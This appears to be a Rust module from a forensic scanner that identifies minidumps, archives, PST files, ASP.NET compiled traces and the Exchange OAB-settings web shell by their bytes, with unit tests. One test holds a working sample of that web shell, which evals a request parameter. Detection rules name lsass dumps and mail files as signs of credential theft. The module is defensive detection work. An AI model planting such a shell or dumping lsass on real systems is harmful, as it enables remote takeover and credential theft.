//! Artefacts recognised by their bytes, never by their extension: minidumps (with the dumped
//! process), 7-Zip / RAR / ZIP archives (with the ZIP's entry names, read from the central
//! directory), PST files, ASP.NET `.compiled` traces, and the OAB-settings web shell.
//!
//! Every parser here works on untrusted bytes: all offsets are bounds-checked and reads capped.

use std::io::{Read, Seek, SeekFrom};

use aho_corasick::AhoCorasick;
use std::sync::OnceLock;

/// What the first bytes of a file say it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Magic {
    Minidump,
    SevenZip,
    Rar,
    Zip,
    Pst,
}

impl Magic {
    pub fn as_str(self) -> &'static str {
        match self {
            Magic::Minidump => "minidump",
            Magic::SevenZip => "7z",
            Magic::Rar => "rar",
            Magic::Zip => "zip",
            Magic::Pst => "pst",
        }
    }
    pub fn is_archive(self) -> bool {
        matches!(self, Magic::SevenZip | Magic::Rar | Magic::Zip)
    }
}

/// Bytes of the head needed by [`magic`].
pub const HEAD_LEN: usize = 16;

/// Recognise a file by its first bytes.
pub fn magic(head: &[u8]) -> Option<Magic> {
    // MINIDUMP_HEADER: 'MDMP' then the low word of the version, MINIDUMP_VERSION 0xA793.
    if head.len() >= 6 && &head[..4] == b"MDMP" && head[4..6] == [0x93, 0xA7] {
        return Some(Magic::Minidump);
    }
    if head.starts_with(&[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C]) {
        return Some(Magic::SevenZip);
    }
    if head.starts_with(b"Rar!\x1a\x07") {
        return Some(Magic::Rar);
    }
    if head.starts_with(b"PK\x03\x04") {
        return Some(Magic::Zip);
    }
    if head.starts_with(b"!BDN") {
        return Some(Magic::Pst);
    }
    None
}

fn u16_at(b: &[u8], off: usize) -> Option<u16> {
    Some(u16::from_le_bytes(b.get(off..off + 2)?.try_into().ok()?))
}

fn u32_at(b: &[u8], off: usize) -> Option<u32> {
    Some(u32::from_le_bytes(b.get(off..off + 4)?.try_into().ok()?))
}

/// Random-access reads over an in-memory buffer or an open file.
pub trait ReadAt {
    fn size(&mut self) -> u64;
    /// Read up to `n` bytes at `off` (fewer at the end of the data).
    fn read_at(&mut self, off: u64, n: usize) -> Option<Vec<u8>>;
}

impl ReadAt for &[u8] {
    fn size(&mut self) -> u64 {
        self.len() as u64
    }
    fn read_at(&mut self, off: u64, n: usize) -> Option<Vec<u8>> {
        let start = usize::try_from(off).ok()?;
        let s = self.get(start..)?;
        Some(s[..n.min(s.len())].to_vec())
    }
}

/// An open file (used for files above the size cap, which are never read whole).
pub struct FileAt<'a>(pub &'a mut std::fs::File, pub u64);

impl ReadAt for FileAt<'_> {
    fn size(&mut self) -> u64 {
        self.1
    }
    fn read_at(&mut self, off: u64, n: usize) -> Option<Vec<u8>> {
        self.0.seek(SeekFrom::Start(off)).ok()?;
        let mut v = Vec::with_capacity(n.min(1 << 20));
        self.0.by_ref().take(n as u64).read_to_end(&mut v).ok()?;
        Some(v)
    }
}

/// The name of the process a minidump was taken of: the first module of its module list (the
/// main executable). `None` when the dump is truncated or has no module list.
pub fn minidump_process(data: &mut dyn ReadAt) -> Option<String> {
    let header = data.read_at(0, 32)?;
    let streams = u32_at(&header, 8)?.min(4096) as usize;
    let dir_rva = u32_at(&header, 12)? as u64;
    let dir = data.read_at(dir_rva, streams * 12)?;
    for i in 0..dir.len() / 12 {
        let e = &dir[i * 12..i * 12 + 12];
        // ModuleListStream = 4.
        if u32_at(e, 0)? != 4 {
            continue;
        }
        let rva = u32_at(e, 8)? as u64;
        let list = data.read_at(rva, 4 + 108)?;
        if u32_at(&list, 0)? == 0 {
            return None;
        }
        // MINIDUMP_MODULE: BaseOfImage u64, SizeOfImage u32, CheckSum u32, TimeDateStamp u32,
        // ModuleNameRva u32 (offset 20).
        let name_rva = u32_at(&list, 4 + 20)? as u64;
        let len = data.read_at(name_rva, 4)?;
        let n = (u32_at(&len, 0)? as usize).min(2048);
        let raw = data.read_at(name_rva + 4, n)?;
        let units: Vec<u16> = raw
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        return Some(String::from_utf16_lossy(&units));
    }
    None
}

/// True when a minidump's process is lsass.
pub fn is_lsass(process: &str) -> bool {
    let base = process.rsplit(['\\', '/']).next().unwrap_or(process);
    base.eq_ignore_ascii_case("lsass.exe") || base.eq_ignore_ascii_case("lsass")
}

/// What the central directory of a ZIP says.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct ZipListing {
    /// Entries the central directory announces.
    pub entries: u64,
    /// The first entry names (capped).
    pub names: Vec<String>,
    /// The central directory could not be found or read in full (truncated or damaged archive).
    pub truncated: bool,
}

/// Names listed per archive.
pub const ZIP_NAME_CAP: usize = 50;

/// List a ZIP's entry names from its central directory (end of the file), without reading or
/// decompressing any entry.
pub fn zip_listing(data: &mut dyn ReadAt) -> ZipListing {
    let mut out = ZipListing::default();
    let len = data.size();
    // End of central directory: 22 bytes plus a comment of up to 65535 bytes.
    let tail_len = len.min(22 + 65535);
    let Some(tail) = data.read_at(len - tail_len, tail_len as usize) else {
        out.truncated = true;
        return out;
    };
    let Some(pos) = memchr::memmem::rfind(&tail, b"PK\x05\x06") else {
        out.truncated = true;
        return out;
    };
    let eocd = &tail[pos..];
    let (Some(total), Some(cd_size), Some(cd_off)) =
        (u16_at(eocd, 10), u32_at(eocd, 12), u32_at(eocd, 16))
    else {
        out.truncated = true;
        return out;
    };
    out.entries = total as u64;
    // ZIP64 or damaged: do not chase it, the magic already identified the archive.
    if cd_off == u32::MAX || cd_size == u32::MAX || cd_off as u64 + cd_size as u64 > len {
        out.truncated = cd_off != u32::MAX;
        return out;
    }
    let read = (cd_size as usize).min(4 << 20);
    let Some(cd) = data.read_at(cd_off as u64, read) else {
        out.truncated = true;
        return out;
    };
    let mut p = 0usize;
    for _ in 0..total {
        if out.names.len() >= ZIP_NAME_CAP {
            break;
        }
        if cd.get(p..p + 4) != Some(b"PK\x01\x02") {
            out.truncated = true;
            break;
        }
        let (Some(nl), Some(el), Some(cl)) = (
            u16_at(&cd, p + 28),
            u16_at(&cd, p + 30),
            u16_at(&cd, p + 32),
        ) else {
            out.truncated = true;
            break;
        };
        let Some(name) = cd.get(p + 46..p + 46 + nl as usize) else {
            out.truncated = true;
            break;
        };
        out.names.push(String::from_utf8_lossy(name).into_owned());
        p += 46 + nl as usize + el as usize + cl as usize;
    }
    out
}

/// Entry names that make a ZIP a package format (Office documents, NuGet, JAR, VSIX) rather than
/// a staging archive.
pub fn is_package_zip(names: &[String]) -> bool {
    names
        .iter()
        .any(|n| n == "[Content_Types].xml" || n.eq_ignore_ascii_case("META-INF/MANIFEST.MF"))
}

/// Entry names that point at stolen credentials or mail.
pub fn sensitive_entry(names: &[String]) -> Option<&str> {
    names
        .iter()
        .find(|n| {
            let l = n.to_ascii_lowercase();
            l.ends_with(".dmp") || l.ends_with(".pst") || l.contains("lsass") || l.ends_with(".ost")
        })
        .map(|s| s.as_str())
}

/// The page an ASP.NET `.compiled` trace was compiled from: `virtualPath="/owa/auth/x.aspx"`,
/// lower-cased, and the assembly name.
pub fn compiled_virtual_path(data: &[u8]) -> Option<(String, Option<String>)> {
    let text: std::borrow::Cow<str> = if data.starts_with(&[0xFF, 0xFE]) {
        let units: Vec<u16> = data[2..]
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        String::from_utf16_lossy(&units).into()
    } else {
        String::from_utf8_lossy(data)
    };
    let attr = |name: &str| -> Option<String> {
        let key = format!("{name}=\"");
        let start = text.find(&key)? + key.len();
        let end = text[start..].find('"')? + start;
        Some(text[start..end].to_string())
    };
    let vp = attr("virtualPath")?;
    Some((vp.to_ascii_lowercase(), attr("assembly")))
}

fn oab_matcher() -> &'static AhoCorasick {
    static M: OnceLock<AhoCorasick> = OnceLock::new();
    M.get_or_init(|| {
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(["externalurl", "internalurl"])
            .expect("static patterns")
    })
}

/// Built-in check for the virtual-directory-settings web shell of CVE-2021-27065 / 26858: the
/// settings as `Set-OabVirtualDirectory` / `Get-OabVirtualDirectory | Format-List` write them,
/// one `Name<spaces>: value` per line, with a `<script` tag *inside* the value of `ExternalUrl`
/// or `InternalUrl`, a URL as the cmdlet requires
/// (`ExternalUrl    : http://f/<script language="JScript" runat="server">…`).
/// A page that merely mentions the words and has a script elsewhere is not this shell. Returns
/// the offsets of the settings key and of the script tag in its value.
pub fn oab_settings_shell(data: &[u8]) -> Option<(usize, usize)> {
    for m in oab_matcher().find_iter(data) {
        let key = m.start();
        // The key starts its line (indentation allowed).
        let line_start = data[..key]
            .iter()
            .rposition(|&b| b == b'\n' || b == b'\r')
            .map_or(0, |i| i + 1);
        if !data[line_start..key]
            .iter()
            .all(|&b| b == b' ' || b == b'\t')
        {
            continue;
        }
        // Then blanks, a colon, and the value up to the end of the line.
        let mut i = m.end();
        while i < data.len() && (data[i] == b' ' || data[i] == b'\t') {
            i += 1;
        }
        if data.get(i) != Some(&b':') {
            continue;
        }
        let value_end = data[i..]
            .iter()
            .position(|&b| b == b'\n' || b == b'\r')
            .map_or(data.len(), |p| i + p);
        let value = &data[i + 1..value_end];
        // The cmdlet only takes a URL there: `http://f/<script …`.
        let lead = value
            .iter()
            .take_while(|&&b| b == b' ' || b == b'\t')
            .count();
        let url = &value[lead..];
        if !(url.len() >= 7
            && (url[..7].eq_ignore_ascii_case(b"http://")
                || url.len() >= 8 && url[..8].eq_ignore_ascii_case(b"https://")))
        {
            continue;
        }
        if let Some(p) = value
            .windows(7)
            .position(|w| w.eq_ignore_ascii_case(b"<script"))
        {
            return Some((key, i + 1 + p));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A minimal minidump: header, one-entry stream directory, a module list with one module,
    /// and its UTF-16 name.
    pub(crate) fn minidump(process: &str) -> Vec<u8> {
        let mut d = Vec::new();
        d.extend_from_slice(b"MDMP");
        d.extend_from_slice(&0xA793u32.to_le_bytes());
        d.extend_from_slice(&1u32.to_le_bytes()); // streams
        d.extend_from_slice(&32u32.to_le_bytes()); // directory rva
        d.resize(32, 0);
        // directory entry: type 4, size, rva 44
        d.extend_from_slice(&4u32.to_le_bytes());
        d.extend_from_slice(&(4 + 108u32).to_le_bytes());
        d.extend_from_slice(&44u32.to_le_bytes());
        // module list at 44
        d.extend_from_slice(&1u32.to_le_bytes());
        let module_start = d.len();
        d.resize(module_start + 108, 0);
        let name_rva = d.len() as u32;
        d[module_start + 20..module_start + 24].copy_from_slice(&name_rva.to_le_bytes());
        let units: Vec<u16> = process.encode_utf16().collect();
        d.extend_from_slice(&((units.len() * 2) as u32).to_le_bytes());
        for u in units {
            d.extend_from_slice(&u.to_le_bytes());
        }
        d
    }

    /// A stored (uncompressed) zip with the given entries, built by hand.
    pub(crate) fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        let mut cd = Vec::new();
        for (name, body) in entries {
            let off = out.len() as u32;
            out.extend_from_slice(b"PK\x03\x04");
            out.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
            out.extend_from_slice(&0u32.to_le_bytes()); // crc (not checked by the lister)
            out.extend_from_slice(&(body.len() as u32).to_le_bytes());
            out.extend_from_slice(&(body.len() as u32).to_le_bytes());
            out.extend_from_slice(&(name.len() as u16).to_le_bytes());
            out.extend_from_slice(&0u16.to_le_bytes());
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(body);
            cd.extend_from_slice(b"PK\x01\x02");
            cd.extend_from_slice(&[20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
            cd.extend_from_slice(&0u32.to_le_bytes());
            cd.extend_from_slice(&(body.len() as u32).to_le_bytes());
            cd.extend_from_slice(&(body.len() as u32).to_le_bytes());
            cd.extend_from_slice(&(name.len() as u16).to_le_bytes());
            cd.extend_from_slice(&[0; 12]);
            cd.extend_from_slice(&off.to_le_bytes());
            cd.extend_from_slice(name.as_bytes());
        }
        let cd_off = out.len() as u32;
        out.extend_from_slice(&cd);
        out.extend_from_slice(b"PK\x05\x06");
        out.extend_from_slice(&[0, 0, 0, 0]);
        out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
        out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
        out.extend_from_slice(&(cd.len() as u32).to_le_bytes());
        out.extend_from_slice(&cd_off.to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out
    }

    #[test]
    fn magic_never_by_extension() {
        assert_eq!(magic(&minidump("x")), Some(Magic::Minidump));
        assert_eq!(
            magic(b"MDMP\0\0"),
            None,
            "MDMP without the version is not a dump"
        );
        assert_eq!(
            magic(&[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]),
            Some(Magic::SevenZip)
        );
        assert_eq!(magic(b"Rar!\x1a\x07\x01\x00"), Some(Magic::Rar));
        assert_eq!(magic(b"!BDN\x00"), Some(Magic::Pst));
        assert_eq!(magic(b"PK\x03\x04"), Some(Magic::Zip));
        assert_eq!(magic(b"PK\x05\x06"), None);
        assert_eq!(magic(b""), None);
    }

    #[test]
    fn minidump_names_its_process_and_survives_truncation() {
        let d = minidump(r"C:\Windows\System32\lsass.exe");
        let p = minidump_process(&mut d.as_slice()).unwrap();
        assert!(is_lsass(&p), "{p}");
        let w = minidump("w3wp.exe");
        assert!(!is_lsass(&minidump_process(&mut w.as_slice()).unwrap()));
        for cut in 0..d.len() {
            let _ = minidump_process(&mut &d[..cut]);
        }
        assert_eq!(minidump_process(&mut &d[..40]), None);
    }

    #[test]
    fn zip_listing_reads_the_central_directory() {
        let z = zip(&[("a/lsass.dmp", b"1234"), ("b.txt", b"x")]);
        let l = zip_listing(&mut z.as_slice());
        assert_eq!(l.entries, 2);
        assert_eq!(
            l.names,
            vec!["a/lsass.dmp".to_string(), "b.txt".to_string()]
        );
        assert!(!l.truncated);
        assert_eq!(sensitive_entry(&l.names), Some("a/lsass.dmp"));
        let t = zip_listing(&mut &z[..z.len() - 30]);
        assert!(t.truncated);
        for cut in 0..z.len() {
            let _ = zip_listing(&mut &z[..cut]);
        }
        let docx = zip(&[("[Content_Types].xml", b"<x/>")]);
        assert!(is_package_zip(&zip_listing(&mut docx.as_slice()).names));
    }

    #[test]
    fn compiled_trace_and_oab_shell() {
        let c = br#"<?xml version="1.0" encoding="utf-8"?>
<preserve resultType="3" virtualPath="/owa/auth/OutlookEN.aspx" hash="1" filehash="2" flags="110000" assembly="App_Web_x1" type="ASP.x">"#;
        let (vp, asm) = compiled_virtual_path(c).unwrap();
        assert_eq!(vp, "/owa/auth/outlooken.aspx");
        assert_eq!(asm.as_deref(), Some("App_Web_x1"));
        assert!(compiled_virtual_path(b"<preserve resultType=\"2\">").is_none());
        let shell = b"Name : OAB (Default Web Site)\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>";
        let (k, sc) = oab_settings_shell(shell).unwrap();
        assert_eq!(&shell[k..k + 11], b"ExternalUrl");
        assert_eq!(&shell[sc..sc + 7], b"<script");
        // Format-List layout with wide padding, InternalUrl, LF line ends, indentation.
        let padded = b"PollInterval : 480\n  InternalUrl                     :   https://x/<SCRIPT runat=server>x</SCRIPT>\n";
        assert!(oab_settings_shell(padded).is_some());
        // The CMS false positive: the words and a script, but the script is not in the value.
        assert!(oab_settings_shell(b"<script>var externalUrl;").is_none());
        let cms = b"<label>ExternalUrl</label>\r\nInternalUrl: https://intranet/\r\n<script src=\"app.js\"></script>";
        assert!(oab_settings_shell(cms).is_none());
        assert!(oab_settings_shell(b"settings.ExternalUrl = x; // <script").is_none());
        // A settings form in the same layout, but the value is a control, not a URL.
        assert!(
            oab_settings_shell(b"InternalUrl: <input runat=server /><script>x()</script>")
                .is_none()
        );
        assert!(oab_settings_shell(b"<html><script>alert(1)</script>").is_none());
        assert!(oab_settings_shell(b"ExternalUrl : https://mail.example.org/OAB").is_none());
    }

    /// Hostile bytes behind every magic never panic the parsers (deterministic pseudo-random).
    #[test]
    fn random_bytes_never_panic() {
        let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
        let mut next = || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        let prefixes: [&[u8]; 4] = [
            b"MDMP\x93\xa7",
            b"PK\x03\x04",
            b"<preserve virtualPath=\"",
            b"",
        ];
        for i in 0..4000 {
            let len = (next() % 600) as usize;
            let mut d: Vec<u8> = prefixes[i % 4].to_vec();
            d.extend((0..len).map(|_| next() as u8));
            if i % 3 == 0 {
                // Plant an end-of-central-directory record with random fields.
                d.extend_from_slice(b"PK\x05\x06");
                d.extend((0..18).map(|_| next() as u8));
            }
            let _ = magic(&d);
            let _ = minidump_process(&mut d.as_slice());
            let _ = zip_listing(&mut d.as_slice());
            let _ = compiled_virtual_path(&d);
            let _ = oab_settings_shell(&d);
        }
    }
}
